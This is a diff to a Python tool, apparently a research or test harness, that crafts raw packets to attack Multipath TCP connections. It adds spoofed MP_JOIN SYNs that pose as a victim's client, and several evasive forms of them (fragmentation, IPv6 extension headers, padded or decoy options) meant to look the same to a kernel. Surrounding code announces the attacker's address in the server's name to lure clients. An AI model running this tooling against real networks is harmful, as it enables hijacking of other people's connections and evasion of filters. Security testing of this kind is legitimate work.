@@ -32,6 +32,8 @@ SMALL = 400  # bytes; longer packets are bulk, and nothing is to be learned from
 WINDOW = 65000
 FIRST_PORT = 20000
 HOPS = 64
+FRAGMENT, EXTENSION = 44, 60  # headers of IPv6
+NOP, MSS = b"\1", struct.pack("!BBH", 2, 4, 1400)
 
 
 def add32(number, more):
@@ -63,6 +65,30 @@ def ip_packet(source, target, protocol, payload):
         _raw(source) + _raw(target) + payload
 
 
+def _fragments(packet, length):
+    """The packet in two; length: bytes of the first one's payload, a multiple of 8.
+
+    Or in one, of IPv6, with the header of a fragment all the same.
+    """
+    number = os.urandom(3)
+    if packet[0] >> 4 == 6:
+        head, rest = packet[:40], packet[40:]
+        parts = ((rest[:length], 1), (rest[length:], length)) if length else ((rest, 0),)
+        return [head[:4] + struct.pack("!HB", 8 + len(part), FRAGMENT) + head[7:]
+                + struct.pack("!BBH", head[6], 0, field) + b"\1" + number + part
+                for part, field in parts]
+    head, rest = packet[:20], packet[20:]
+    parts = ((rest[:length], 1 << 13), (rest[length:], length // 8))
+    return [head[:2] + struct.pack("!H", 20 + len(part)) + b"\1" + number[:1]
+            + struct.pack("!H", field) + head[8:] + part for part, field in parts]
+
+
+def _extended(packet):
+    """An IPv6 packet with a header between that says nothing: destination options, padding."""
+    return packet[:4] + struct.pack("!HB", len(packet) - 40 + 8, EXTENSION) + packet[7:40] + \
+        struct.pack("!BBBB4x", packet[6], 0, 1, 4) + packet[40:]
+
+
 def transport_sum(source, target, protocol, payload):
     """Over the pseudo header too; it's of the same sum for both families."""
     return _checksum(_raw(source) + _raw(target) + struct.pack("!II", len(payload), protocol)
@@ -71,7 +97,7 @@ def transport_sum(source, target, protocol, payload):
 
 def tcp_packet(source, target, ports, numbers, flags, options):
     """A segment without payload. ports, numbers: pairs (ours, theirs)."""
-    options += b"\1" * (-len(options) % 4)
+    options += NOP * (-len(options) % 4)
     head = struct.pack("!HHIIBBH", *ports, *numbers, (20 + len(options)) // 4 << 4, flags, WINDOW)
     total = transport_sum(source, target, socket.IPPROTO_TCP, head + b"\0" * 4 + options)
     return ip_packet(source, target, socket.IPPROTO_TCP,
@@ -168,6 +194,34 @@ class Attempt:
     payload: int = 0  # bytes of the connection that it was sent
 
 
+def mp_join(token, nonce):
+    """The option of a SYN."""
+    return struct.pack("!BBBB4s4s", OPTION_MPTCP, 12, MP_JOIN << 4, 77, token, nonce)
+
+
+def _syn(attempt, before=b"", after=b""):
+    """The SYN of an attempt, with other options around that which matters."""
+    options = before + mp_join(attempt.victim.token, attempt.nonce) + after
+    return tcp_packet(attempt.source[0], attempt.target[0],
+                      (attempt.source[1], attempt.target[1]), (attempt.seq, 0), SYN, options)
+
+
+# What the SYN of a join can look like, all of it the same to a kernel: name -> packets.
+SHAPES = {
+    "plain": lambda attempt: [_syn(attempt, MSS)],
+    "first": lambda attempt: [_syn(attempt)],
+    "odd": lambda attempt: [_syn(attempt, NOP)],
+    "late": lambda attempt: [_syn(attempt, MSS + NOP * 24)],
+    "after another": lambda attempt: [_syn(attempt, mp_join(os.urandom(4), os.urandom(4)))],
+    "in fragments": lambda attempt: _fragments(_syn(attempt, MSS), 24),
+}
+SHAPES6 = {  # of IPv6 alone
+    "extended": lambda attempt: [_extended(_syn(attempt, MSS))],
+    "in one fragment": lambda attempt: _fragments(_syn(attempt, MSS), 0),
+}
+SHAPES |= SHAPES6
+
+
 @dataclasses.dataclass
 class Lured:
     """A client that has joined the attacker's address."""
@@ -247,29 +301,22 @@ class Attacker:
         source = source or self.address(0, _family(target))
         self.send(udp_packet(source, target, (sport, PORT), data))
 
-    def join(self, victim, count=1, right=True, source=None):
+    def join(self, victim, count=1, right=True, source=None, shape="plain"):
         """SYNs with MP_JOIN, as if from the client of that connection. Attempts.
 
-        source: an address of the attacker's; else each has another one.
+        source: an address of the attacker's; else each has another one. shape: of SHAPES.
         """
         sources = (self._source(victim.server[0]) for _ in range(count))
-        return [self._join(victim, (source or each[0], each[1]), victim.server, right)
+        return [self._join(victim, (source or each[0], each[1]), right, shape)
                 for each in sources]
 
-    def _join(self, victim, source, target, right):
-        attempt = Attempt(victim, source, target, os.urandom(4),
+    def _join(self, victim, source, right, shape):
+        attempt = Attempt(victim, source, victim.server, os.urandom(4),
                           int.from_bytes(os.urandom(4), "big"), right)
-        self.attempts[source, target] = attempt
-        self.again(attempt)
+        self.attempts[source, victim.server] = attempt
+        for packet in SHAPES[shape](attempt):
+            self.send(packet)
         return attempt
-
-    def again(self, attempt):
-        """Its SYN."""
-        option = struct.pack("!BBBB4s4s", OPTION_MPTCP, 12, MP_JOIN << 4, 77,
-                             attempt.victim.token, attempt.nonce)
-        self.send(tcp_packet(attempt.source[0], attempt.target[0],
-                             (attempt.source[1], attempt.target[1]), (attempt.seq, 0), SYN,
-                             struct.pack("!BBH", 2, 4, 1400) + option))
 
     def announce(self, victim, address, number):
         """Tells the client, in the server's name, of an address of the server's: the attacker's."""
@@ -335,7 +382,7 @@ class Attacker:
                                  lured.nonce)
             self.send(tcp_packet(here[0], there[0], (here[1], there[1]),
                                  (1000, add32(segment.seq, 1)), SYN | ACK,
-                                 struct.pack("!BBH", 2, 4, 1400) + option))
+                                 MSS + option))
         elif len(theirs) == 24 and (lured := self.lured.get((there, here))):
             lured.proved = theirs[4:] == mac(victim.client_key + victim.server_key,
                                              lured.theirs + lured.nonce)[:20]
